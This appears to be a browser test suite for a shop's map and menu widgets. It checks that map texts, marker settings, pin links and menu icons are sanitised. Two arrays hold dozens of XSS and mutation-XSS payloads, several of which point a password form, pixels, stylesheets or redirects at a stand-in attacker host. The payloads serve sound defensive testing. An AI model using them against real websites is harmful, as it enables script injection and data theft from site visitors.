import { describe, expect, test } from 'vitest';
import { drawn, provideGoogle, routeGoogle } from '../support/googleMaps';
import { allMounted, expectNoProblems, mounted, type WatchedPage } from '../support/page';
import { EVIL, harm, openPost, POLICIES } from '../support/post';

const RUN = 'pwned=1';

/** What would run, load, lead away or ask for a password, if a text were taken as HTML as it is. */
const ACTIVE = [
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}"//><b>x`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values=javascript:${RUN} /><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x"/></svg>`,
  `<script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</script>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object><embed src="${EVIL}/x.svg">`,
  `<object type="text/html" data="${EVIL}/frame"></object>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<video autoplay onerror=${RUN}><source src=x onerror=${RUN}></video><audio src=x onerror=${RUN}></audio>`,
  `<input autofocus onfocus=${RUN}><textarea autofocus onfocus=${RUN}></textarea><select autofocus onfocus=${RUN}></select>`,
  `<marquee onstart=${RUN}>x</marquee><body onload=${RUN}><frameset onload=${RUN}>`,
  `<a href="javascript:${RUN}">x</a><a href="java&#9;script:${RUN}">x</a><a href=" &#1;javascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a><a href="vbscript:x">x</a>`,
  `<style>@import "${EVIL}/x.css";*{background:url(${EVIL}/y)}@keyframes k{}</style><i style="animation:k" onanimationstart=${RUN}>x</i>`,
  `<p style="background:url(${EVIL}/z);position:fixed;inset:0;z-index:9">x</p><p style="color:red;--x:url(${EVIL}/v);content:url(${EVIL}/w)">x</p>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}/away">`,
  `<base href="${EVIL}/"><link rel=stylesheet href="${EVIL}/l.css"><link rel=prefetch href="${EVIL}/p">`,
  `<form action="${EVIL}/take"><input name=password type=password><button autofocus formaction="${EVIL}/b">x</button></form>`,
  `<img src="${EVIL}/pixel"><img srcset="${EVIL}/set 1x"><picture><source srcset="${EVIL}/source"><img alt></picture>`,
  `<table background="${EVIL}/t"><tr><td background="${EVIL}/d">x</table><img src=1 lowsrc="${EVIL}/low">`,
  `<div id="currentScript" name="x" data-widget="popup" data-settings="{}">x</div><a ping="${EVIL}/ping" href="/shop/">x</a>`,
];

/** What is harmless when it is parsed once, and runs when the result is written as HTML and parsed again. */
const MUTATING = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=${RUN}">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<svg><desc><template><style><b id="</style><img src=x onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror=${RUN}><script>${RUN}</script></template>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<title><p title="</title><img src=x onerror=${RUN}>"></title>`,
  `<textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<noembed><p title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  `<select><iframe><p title="</iframe><img src=x onerror=${RUN}>"></select>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
  `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>--><!-- --!><img src=x onerror=${RUN}> -->`,
  `<a title="\`<img src=x onerror=${RUN}>\`">x</a><![CDATA[<img src=x onerror=${RUN}>]]>`,
  `${'<div>'.repeat(506)}<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style><img src=x onerror=${RUN}>"></style></svg></caption></table>`,
  `${'<b>'.repeat(255)}<svg>${'<g>'.repeat(255)}<desc><style><img src=x onerror=${RUN}></style></desc></svg>`,
  `<plaintext><img src=x onerror=${RUN}>`,
];

const PAYLOADS = [...ACTIVE, ...MUTATING];

const attribute = (value: unknown): string =>
  (typeof value === 'string' ? value : JSON.stringify(value)).replace(
    /[&<>"']/g,
    (sign) => `&#${String(sign.charCodeAt(0)).padStart(3, '0')};`,
  );

const encoded = (value: unknown): string => encodeURIComponent(JSON.stringify(value)).replaceAll('%20', '+');

const at = (index: number): { lat: number; lng: number } => ({ lat: 52.5 + index / 1000, lng: 13.3 });

const SIZE = 'class="table-wrap"';

const pinMap = (pins: object[], init: object = {}): string =>
  `<div ${SIZE}><div class="jet-map" data-init="${attribute({ zoom: 12, ...init })}" data-pins="${attribute(pins)}"></div></div>`;

const openPins = (texts: readonly string[]): string =>
  pinMap(texts.map((desc, index) => ({ position: at(index), desc, state: 'visible' })));

const kitMap = (type: string, fields: Record<string, unknown>): string =>
  `<div ${SIZE}><div class="ekit-google-map" data-map_type="${type}"${Object.entries(fields)
    .map(([name, value]) => ` data-${name}="${attribute(value)}"`)
    .join('')}></div></div>`;

/** Tiles of the shop, so that whatever else is asked for is told. */
const TILES = { tileUrl: '/maps/tiles/{z}/{x}/{y}.svg', geocoderUrl: '/maps/search' };
const config = (more: object = {}): Record<string, string> => ({
  config: JSON.stringify({ settings: { map: { ...TILES, ...more }, 'pin-map': { ...TILES, ...more } } }),
});

/** What stands in info windows and over maps that has no place in a text; attributes as `name=value`. */
const unfit = (page: WatchedPage): Promise<string[]> =>
  page.$$eval('.storefront-map-info > div:first-child, .ekit-gmap-overlay, .ekit-gmap-overlay *', (boxes) => {
    const TAGS = /^(a|b|br|div|em|h[1-6]|i|img|li|p|span|strong|table|tbody|td|tr|u|ul|caption)$/;
    const elements = boxes.flatMap((box) => [...box.querySelectorAll('*')]);
    return elements.flatMap((element) => [
      ...(TAGS.test(element.localName) && element.namespaceURI?.endsWith('xhtml') ? [] : [element.localName]),
      ...[...element.attributes]
        .filter(
          ({ name, value }) =>
            !/^(alt|class|href|rel|src|style|target|title)$/.test(name) ||
            (/^(href|src)$/.test(name) && !/^(\/|https?:|x$|1$|$)/.test(value)) ||
            (name === 'style' && /url|position|animation/.test(value)) ||
            (name === 'src' && value.includes('evil')),
        )
        .map(({ name, value }) => `${element.localName} ${name}=${value}`),
    ]);
  });

describe.each(POLICIES)('texts of maps, under the policy "%s"', (policy) => {
  test('the texts of open pins run nothing, load nothing and lead nowhere', async () => {
    const page = await openPost({ post: openPins(PAYLOADS) }, { policy, query: config() });
    await page.locator('.storefront-map-popup').nth(5).waitFor();
    expect(await harm(page)).toEqual([]);
    expect(await unfit(page)).toEqual([]);
  });

  test('the texts of markers and over the centre run nothing, load nothing and lead nowhere', async () => {
    const markers = PAYLOADS.map((map_marker_content, index) => ({
      map_marker_lat: at(index).lat,
      map_marker_lng: at(index).lng,
      map_marker_title: map_marker_content,
      map_marker_content,
    }));
    const basics = PAYLOADS.slice(0, 4).map((text) => kitMap('basic', { map_basic_marker_content: text }));
    const post = [
      kitMap('overlay', { map_overlay_content: PAYLOADS.join('') }),
      kitMap('overlay', { map_overlay_content: `Here ${MUTATING.join('<p>')}` }),
      kitMap('marker', { map_markers: encoded(markers) }),
      ...basics,
    ].join('');
    const page = await openPost({ post }, { policy, query: config() });
    // Maps come when they are seen, each in one task with its markers.
    await mounted(page, 'map');
    await expect.poll(() => page.locator('.leaflet-container').count()).toBe(3 + basics.length);
    for (const marker of await page.locator('.storefront-map-marker[role=button]').all())
      await marker.evaluate((element) => (element as HTMLElement).click());
    await page.locator('.storefront-map-popup').first().waitFor();
    expect(await harm(page)).toEqual([]);
    expect(await unfit(page)).toEqual([]);
  });
});

test('the texts of Google’s map run nothing, load nothing and lead nowhere', async () => {
  const post = `${openPins(PAYLOADS)}${kitMap('overlay', { map_overlay_content: PAYLOADS.join('') })}`;
  const page = await openPost({ post }, { query: config(), before: (opening) => provideGoogle(opening) });
  await expect.poll(async () => (await drawn(page, 'open')).length).toBeGreaterThan(5);
  await page.locator('.ekit-gmap-overlay').waitFor();
  expect(await harm(page)).toEqual([]);
  expect(await unfit(page)).toEqual([]);
});

test('the text of a map is plain text where the sanitiser does not arrive', async () => {
  const post = openPins([`<b>Open</b> till 6${ACTIVE[0]}`]);
  const page = await openPost({ post }, { query: config(), block: [/sanitiser/] });
  await page.locator('.storefront-map-info', { hasText: 'Open till 6' }).waitFor();
  expect(await page.locator('.storefront-map-info b').count()).toBe(0);
  expect(await harm(page)).toEqual([]);
});

describe('what the text of a map may be', () => {
  const RICH =
    '<h3>Our shop</h3><p style="color: rgb(200, 0, 0); text-align: center"><strong>Open</strong> <em>daily</em>, ' +
    '<a href="/shop/" target="_blank">the shop</a>, <a href="mailto:a@shop.example">mail</a>, <a href="tel:+49301">call</a></p>' +
    '<ul class="hours"><li>9–18</li></ul><img src="/images/mug-205-scene-100x100.svg" alt="A mug" width="50" height="50">' +
    '<table><tr><td colspan="2" dir="ltr">1</td></tr></table><br>A &amp; B';

  test.each(POLICIES)(
    'the text of a map keeps its form, links and pictures of the shop, under the policy "%s"',
    async (policy) => {
      const page = await openPost({ post: openPins([RICH, 'Plain &amp; 5 &lt; 6']) }, { policy, query: config() });
      const info = page.locator('.storefront-map-info', { hasText: 'Our shop' });
      await info.waitFor();
      expect(await info.locator('h3, strong, em, ul.hours > li, td, br').count()).toBe(6);
      expect(await info.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href')))).toEqual([
        '/shop/',
        'mailto:a@shop.example',
        'tel:+49301',
      ]);
      const [first] = await info.locator('a').all();
      expect([await first?.getAttribute('target'), await first?.getAttribute('rel')]).toEqual([
        '_blank',
        'noopener noreferrer',
      ]);
      expect(await info.locator('td').getAttribute('colspan')).toBe('2');
      expect(await info.locator('img').evaluate((image) => image.getBoundingClientRect().width)).toBe(50);
      expect(await info.locator('p').evaluate((text) => getComputedStyle(text).color)).toBe('rgb(200, 0, 0)');
      await expect
        .poll(() => info.locator('img').evaluate((image) => (image as HTMLImageElement).naturalWidth))
        .not.toBe(0);
      expect(await info.innerText()).toContain('A & B');
      await page.locator('.storefront-map-info', { hasText: 'Plain & 5 < 6' }).waitFor();
      expect(await harm(page)).toEqual([]);
      // A strict policy tells of each style that is parsed.
      expectNoProblems(page, [/Applying inline style/]);
    },
  );
});

describe('where maps come from', () => {
  const SAYS = { tileUrl: `${EVIL}/{z}/{x}/{y}.png`, geocoderUrl: `${EVIL}/find`, creditUrl: EVIL };
  const KEY = { ...SAYS, api_key: 'theirs' };
  const ROME = { map_address_type: 'address', map_addr: 'Rome' };
  const byHand = (settings: object): string =>
    `<div ${SIZE}><div data-widget="map" data-settings="${attribute(settings)}"></div></div>`;

  test.each([
    ['settings of a map', byHand(SAYS)],
    ['settings with a key', byHand(KEY)],
    ['settings around', `<div data-widget="map" data-settings="${attribute(KEY)}">${kitMap('basic', {})}</div>`],
    ['settings of a map with pins', pinMap([{ position: at(1) }], SAYS)],
    ['settings of a map with pins and a key', pinMap([{ position: at(1) }], KEY)],
    ['a key of the add-on', kitMap('static', { api_key: 'theirs' })],
    ['settings of a map that looks for an address', byHand({ ...SAYS, ...ROME })],
    ['those with a key', byHand({ ...KEY, ...ROME })],
    [
      'an element that is called like Google’s maps',
      `<a id="google">x</a><a id="google" name="maps">x</a><a id="gm_authFailure">x</a>${byHand(KEY)}`,
    ],
    [
      'colours',
      byHand({ map_type: 'polygon', map_stroke_color: `url(${EVIL}/s#a)`, map_stroke_fill_color: `url(${EVIL}/f)` }),
    ],
  ])('the source of maps is not changed by %s', async (_, post) => {
    const page = await openPost({ post }, { query: config() });
    await page.locator('.storefront-map').first().waitFor({ state: 'attached' });
    expect(await harm(page)).toEqual([]);
    expect(await page.locator(`[href^="${EVIL}"], [src^="${EVIL}"]`).count()).toBe(0);
  });

  test('the key that ElementsKit prints counts where the page asks for Google’s maps with it', async () => {
    const markers = encoded([{ map_marker_lat: 1, map_marker_lng: 2 }]);
    const post = ['theirs', 'ours'].map((key) => kitMap('static', { api_key: key, map_markers: markers })).join('');
    const page = await openPost(
      { post },
      {
        query: config(),
        async before(opening) {
          await routeGoogle(opening);
          await opening.addInitScript(() =>
            document.addEventListener('DOMContentLoaded', () => {
              const script = document.createElement('script');
              script.type = 'text/plain';
              script.dataset.src = 'https://maps.googleapis.com/maps/api/js?key=ours&ver=1';
              document.head.append(script);
            }),
          );
        },
      },
    );
    await page.locator('.storefront-map > img').waitFor();
    expect(
      await page.locator('.storefront-map > img').evaluateAll((all) => all.map((one) => one.getAttribute('src'))),
    ).toEqual([expect.stringMatching(/&key=ours$/)]);
    await expect.poll(() => page.locator('.leaflet-container').count()).toBe(1);
  });

  test('a post cannot say that a map does not wait for consent', async () => {
    const answers = { wp_consent_type: 'optin', wp_has_consent: (category: string) => category === 'functional' };
    const post = `<div ${SIZE}><div data-widget="map" data-settings="${attribute({ consentCategory: 'functional' })}"></div></div>`;
    const page = await openPost(
      { post },
      {
        query: config({ consentCategory: 'marketing' }),
        before: (opening) =>
          opening.addInitScript(
            `Object.assign(window, { wp_consent_type: '${answers.wp_consent_type}', wp_has_consent: ${String(answers.wp_has_consent)} })`,
          ),
      },
    );
    await page.getByText('The map is shown once you have accepted cookies.').waitFor();
    expect(await page.locator('.leaflet-container').count()).toBe(0);
  });

  test('only pictures of the shop are shown as markers', async () => {
    const post = [
      pinMap([
        { position: at(1), image: `${EVIL}/pin.png` },
        { position: at(2), image: '/images/mug-205-scene-100x100.svg' },
        { position: at(3), image: `//evil.example/x.svg`, image_width: 20, image_height: 20 },
        { position: at(4), image: { url: 'data:image/svg+xml,<svg/>' } },
      ]),
      kitMap('basic', { map_basic_marker_icon_enable: 'yes', map_basic_marker_icon: `${EVIL}/icon.png` }),
    ].join('');
    const page = await openPost({ post }, { query: config() });
    await page.locator('.leaflet-container').nth(1).waitFor();
    expect(await harm(page)).toEqual([]);
    expect(await page.locator('.storefront-map-marker > img').count()).toBe(1);
    expect(await page.locator('.storefront-map-marker > svg').count()).toBe(4);
  });

  test('a pin’s link leads to its address, and does nothing else', async () => {
    const link = (url: string, custom_attributes = ''): object => ({
      position: at(1),
      link_title: 'Go',
      state: 'visible',
      link: { url, custom_attributes },
    });
    const all =
      `style|position:fixed;inset:0,id|currentScript,name|x,ping|${EVIL}/ping,data-widget|popup,onclick|pwned=1,` +
      'class|modal,href|javascript:pwned=1,title|There,rel|opener nofollow,target|_blank,lang|de,aria-label|Go there,accesskey|x,tabindex|1';
    const page = await openPost(
      {
        post: pinMap([
          link('/shop/', all),
          link(`javascript:pwned=1`),
          link('ftp://a.example/'),
          link('data:text/html,x'),
        ]),
      },
      { query: config() },
    );
    const links = page.locator('.jet-map-pin__link');
    await links.nth(3).waitFor();
    const attributes = await links.evaluateAll((all) =>
      all.map((one) => [...one.attributes].map(({ name, value }) => `${name}=${value}`).sort()),
    );
    expect(attributes[0]).toEqual([
      'aria-label=Go there',
      'class=jet-map-pin__link',
      expect.stringMatching(/^href=.*\/shop\/$/),
      'lang=de',
      'rel=nofollow',
      'target=_blank',
      'title=There',
    ]);
    expect(attributes.slice(1)).toEqual(Array(3).fill(['class=jet-map-pin__link']));
    expect(await harm(page)).toEqual([]);
  });
});

test('a map of very many pins, points and long texts does not freeze the page', async () => {
  const many = (count: number): object[] =>
    Array.from({ length: count }, (_, index) => ({
      position: at(index % 300),
      desc: '<b>x</b>'.repeat(30),
      state: 'visible',
    }));
  const points = Array.from({ length: 20_000 }, (_, index) => ({
    map_polyline_lat: at(index % 300).lat,
    map_polyline_lng: 13,
  }));
  const post = [
    pinMap(many(5000)),
    kitMap('polyline', { map_polylines: encoded(points), map_markers: encoded(points) }),
    pinMap([{ position: at(1), desc: '<b>'.repeat(200_000), state: 'visible' }]),
  ].join('');
  const page = await openPost({ post }, { query: config() });
  await page.locator('.leaflet-container').nth(2).waitFor();
  await allMounted(page);
  expect(await page.locator('.storefront-map').first().locator('.storefront-map-marker').count()).toBe(500);
  expect(await harm(page)).toEqual([]);
});

describe('icons of menus', () => {
  const menu = (icon: unknown): string =>
    `<div class="elementor-element elementor-widget elementor-widget-nav-menu" data-id="1a2b3c4" data-element_type="widget" data-widget_type="nav-menu.default" data-settings="${attribute({ submenu_icon: { value: icon, library: '' } })}"><div class="elementor-widget-container"><nav class="elementor-nav-menu--main elementor-nav-menu__container"><ul class="elementor-nav-menu"><li class="menu-item menu-item-has-children"><a class="elementor-item" href="/shop/">A</a><ul class="sub-menu elementor-nav-menu--dropdown"><li><a href="/cart/">B</a></li></ul></li></ul></nav></div></div>`;

  test.each(POLICIES)('the icons of menus are drawn, and do nothing, under the policy "%s"', async (policy) => {
    const drawing = '<path d="M0 0h9v9z" onclick="pwned=1"/>';
    const icons = [
      ...PAYLOADS,
      ...PAYLOADS.map((text) => `<i class="fa">${text}</i>`),
      ...PAYLOADS.map((text) => `<svg viewBox="0 0 9 9">${text}${drawing}</svg>`),
      ...PAYLOADS.map((text) => `<svg><foreignObject>${text}</foreignObject>${drawing}</svg>`),
      `<svg onload="pwned=1" style="position:fixed;background:url(${EVIL}/b)" fill="url(${EVIL}/f#a)">${drawing}</svg>`,
    ];
    const page = await openPost({ post: icons.map(menu).join('') }, { policy });
    // The widgets for Elementor come after the runtime; before, there is nothing to mount.
    const found = page.locator('.elementor-widget-nav-menu[data-widget-state]');
    await expect.poll(() => found.count()).toBe(icons.length);
    // Those out of view would wait.
    await page.$$eval('.elementor-widget-nav-menu', (hosts) => {
      const { StorefrontWidgets: api } = window as unknown as { StorefrontWidgets: { mount(host: Element): unknown } };
      for (const host of hosts) api.mount(host);
    });
    await expect.poll(() => page.locator('.sub-arrow').count()).toBe(icons.length);
    expect(await harm(page)).toEqual([]);
    const inside = await page.$$eval('.sub-arrow *', (all) =>
      all.flatMap(({ localName, attributes }) => [localName, ...[...attributes].map(({ name }) => name)]),
    );
    const fit = /^(span|style|svg|i|g|path|title|use|class|d|viewBox|href|transform|fill|x|y|width|height)$/;
    expect(inside.filter((name) => !fit.test(name))).toEqual([]);
    expect(await page.locator('.sub-arrow path').count()).toBeGreaterThan(20);
    expect(await page.locator('.sub-arrow [href]:not([href^="#"])').count()).toBe(0);
  });
});
